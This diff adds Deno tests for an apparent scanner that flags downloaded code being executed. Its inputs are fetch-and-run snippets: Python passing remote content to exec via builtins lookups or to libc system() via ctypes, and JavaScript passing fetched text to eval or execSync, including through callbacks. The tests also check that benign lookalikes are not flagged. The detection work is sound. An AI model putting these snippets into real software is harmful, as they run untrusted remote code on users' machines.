@@ -1171,6 +1171,81 @@ Deno.test("downloaded code run through an indirect eval, a worker or Python's in
   );
 });
 
+Deno.test("downloaded code run through a namespace's entry or the C library's system() is run", () => {
+  const runs = downloadRuns;
+  const py = "import builtins, ctypes, urllib.request\n" +
+    'src = urllib.request.urlopen("https://get.notes-cloud.net/f").read()\n';
+  const viaPython = [
+    'f = vars(builtins)["exec"]\nf(src)\n',
+    'builtins.__dict__["exec"](src)\n',
+    '__builtins__.__dict__["exec"](src)\n',
+    'globals()["__builtins__"]["exec"](src)\n',
+    "ctypes.CDLL(None).system(src)\n",
+    'ctypes.cdll.LoadLibrary("libc.so.6").system(src)\n',
+    'libc = ctypes.CDLL("libc.so.6")\nlibc.system(src)\n',
+  ];
+  for (const [i, call] of viaPython.entries()) {
+    const text = py + call;
+    assert.deepEqual(runs(`scripts/p${i}.py`, text), [text.split("\n").length - 1], call);
+  }
+  const js = 'const code = await (await fetch("https://get.notes-cloud.net/a")).text();\n';
+  assert.deepEqual(runs("scripts/a.mjs", `${js}globalThis["eval"](code);\n`), [2]);
+  assert.deepEqual(runs("scripts/b.mjs", `${js}window["eval"](code);\n`), [2]);
+  assert.deepEqual(
+    runs("scripts/c.mjs", `const cp = require("child_process");\n${js}cp["execSync"](code);\n`),
+    [3],
+  );
+  assert.deepEqual(runs("scripts/d.mjs", `${js}require("child_process")["execSync"](code);\n`), [
+    2,
+  ]);
+  // A plain dictionary's entries stay entries, and the platform's name is no shell.
+  assert.deepEqual(
+    runs("scripts/e.py", `${py}handlers = {"exec": print}\nhandlers["exec"](src)\n`),
+    [],
+  );
+  assert.deepEqual(
+    runs("scripts/f.py", `${py}import platform\nprint(platform.system(), src)\n`),
+    [],
+  );
+});
+
+Deno.test("a download handed to a callback and run there is run: promise chains, stream events, response callbacks", () => {
+  const runs = downloadRuns;
+  const url = '"https://get.notes-cloud.net/a"';
+  assert.deepEqual(
+    runs("scripts/a.js", `fetch(${url}).then((r) => r.text()).then((t) => eval(t));\n`),
+    [1],
+  );
+  assert.deepEqual(runs("scripts/b.js", `fetch(${url}).then(r => r.text()).then(eval);\n`), [1]);
+  const cp = 'const cp = require("child_process");\n';
+  assert.deepEqual(
+    runs(
+      "scripts/c.js",
+      `${cp}fetch(${url}).then(async (r) => {\n  const t = await r.text();\n  cp.execSync(t);\n});\n`,
+    ),
+    [4],
+  );
+  assert.deepEqual(
+    runs(
+      "scripts/d.js",
+      'const https = require("https");\n' +
+        `https.get(${url}, (res) => {\n  let d = "";\n  res.on("data", (c) => d += c);\n` +
+        '  res.on("end", () => eval(d));\n});\n',
+    ),
+    [5],
+  );
+  // What a callback is given that is no download, and a download a callback only shows.
+  const benign = [
+    `fetch(${url}).then((r) => r.json()).then((data) => console.log(data.name));\n`,
+    'process.stdin.on("data", (c) => eval(c));\n',
+    `${cp}fetch(${url}).then(() => cp.execSync("git status"));\n`,
+    `${cp}fetch(${url}).then((r) => {\n  const cmd = "ls";\n  cp.execSync(cmd);\n});\n`,
+  ];
+  for (const [i, text] of benign.entries()) {
+    assert.deepEqual(runs(`scripts/e${i}.js`, text), [], text);
+  }
+});
+
 Deno.test("the environment printed by env or printenv, or read from /proc/self/environ, and sent is the whole environment", () => {
   const sent = (file: string, text: string) =>
     secretFlows(file, text).map(([severity, excerpt]) =>
